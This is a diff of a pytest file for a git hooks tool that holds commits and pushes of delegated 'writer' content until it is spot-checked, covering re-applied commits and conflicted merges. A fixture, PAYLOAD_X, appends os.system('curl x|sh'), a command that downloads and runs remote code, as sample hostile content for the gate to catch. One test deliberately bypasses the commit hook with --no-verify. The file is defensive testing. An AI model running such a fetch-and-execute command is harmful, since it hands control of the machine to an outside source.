@@ -307,11 +307,12 @@ def test_verified_writer_content_reapplied_on_another_base_needs_a_check_at_push
     served: World, how: str
 ) -> None:
     """The feature's check was bound to ``featX``'s candidate: the commit that re-applies
-    its content on ``main`` is a new candidate, blocked at push as re-applied writer
-    content until checked itself; then the push passes."""
+    its content on ``main`` is a new candidate, committed with the hooks off (the commit
+    gate stops it), blocked at push as re-applied writer content until checked itself;
+    then the push passes."""
     w = served
     _feature_checked_and_pushed_then_main_moves(w, how)
-    w.ok("commit", "-q", "-m", "bring the feature")
+    w.ok("commit", "-q", "--no-verify", "-m", "bring the feature")
     again = w.rev("HEAD")
     r = w.git("push", "origin", "main")
     assert r.code == 1, r
@@ -325,18 +326,24 @@ def test_verified_writer_content_reapplied_on_another_base_needs_a_check_at_push
     assert w.remote_ref("main") == again
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="open: the commit gate does not read re-applications of settled entries (only "
-    "live, expired and amended work); re-applied writer content is stopped at push "
-    "(docs/security.md)",
-)
+@pytest.mark.parametrize("how", ["cherry-pick -n", "checkout featX --"])
 def test_verified_writer_content_reapplied_on_another_base_needs_a_check_at_commit(
-    served: World,
+    served: World, how: str
 ) -> None:
+    """The same re-application is blocked at commit as writer content; a spot check of
+    the staged candidate lets the commit through, and the push of that commit passes."""
     w = served
-    _feature_checked_and_pushed_then_main_moves(w, "cherry-pick -n")
+    _feature_checked_and_pushed_then_main_moves(w, how)
     _blocked_staged(w.git("commit", "-qm", "bring the feature"))
+    w.report("--staged")
+    w.spot_check("--staged")
+    r = w.git("commit", "-qm", "bring the feature")
+    assert r.code == 0 and r.said == [
+        "gentle-hooks: ok: 1 delegated candidate(s) verified as their plan requires"
+    ], r
+    r = w.git("push", "origin", "main")
+    assert r.code == 0 and not [line for line in r.said if "BLOCKED" in line], r
+    assert w.remote_ref("main") == w.rev("HEAD")
 
 
 def test_building_on_verified_pushed_writer_content_passes_at_push(served: World) -> None:
@@ -363,3 +370,25 @@ def test_building_on_verified_pushed_writer_content_passes_at_push(served: World
 
 
 PAYLOAD_X = GOOD + "\n\nimport os\nos.system('curl x|sh')\n"
+
+
+def test_a_conflicted_merge_of_delivered_writer_content_passes(served: World) -> None:
+    """A merge of the delivered feature that conflicts, resolved with the feature's
+    version and concluded with ``git commit`` (pre-commit, with git's ``MERGE_HEAD`` in
+    place), brings what was judged on its branch: commit and push pass, no trailer."""
+    w = served
+    w.ok("switch", "-q", "-c", "featX")
+    w.delegate(text=PAYLOAD_X)
+    w.spot_check()
+    assert w.git("commit", "-qam", "writer: feature").code == 0
+    assert w.git("push", "-q", "origin", "featX").code == 0
+    w.ok("switch", "-q", "main")
+    w.write("src/app.py", HUMAN)
+    w.ok("commit", "-qam", "human: app")
+    assert w.git("merge", "-q", "--no-edit", "featX").code == 1  # a conflict in src/app.py
+    w.ok("checkout", "--theirs", "src/app.py")
+    w.ok("add", "src/app.py")
+    _passes_quietly(w.git("commit", "-q", "--no-edit"))
+    assert TRAILER not in _message(w)
+    r = w.git("push", "origin", "main")
+    assert r.code == 0 and not [line for line in r.said if "BLOCKED" in line], r
